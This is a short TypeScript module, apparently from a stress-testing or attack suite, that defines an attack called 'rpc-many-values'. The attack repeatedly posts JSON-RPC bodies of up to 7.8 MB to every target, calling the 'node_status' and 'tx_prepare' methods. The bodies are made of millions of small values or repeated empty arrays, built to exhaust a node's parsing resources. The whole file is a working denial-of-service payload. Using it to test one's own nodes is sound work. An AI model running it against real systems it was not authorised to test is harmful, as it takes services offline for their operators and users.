import type { Attack } from '../attack.ts';
import { callOf, onEach, postAgain } from '../http.ts';

const BYTES = 7_800_000;
const BODIES = [
  callOf('node_status', `[${'0,'.repeat(BYTES / 2)}0]`),
  callOf('node_status', `[${'{},'.repeat(BYTES / 3)}{}]`),
  callOf('tx_prepare', `{"payload":[${'[],'.repeat(60_000)}0]}`),
] as const;

export const attack: Attack = {
  name: 'rpc-many-values',
  what: 'Bodies of up to 7.8 MB hold nothing but millions of small values.',
  run: ({ targets }, signal) =>
    onEach(targets, (target) => postAgain(target, (turn) => BODIES[turn % BODIES.length] ?? '', 4, signal)),
};
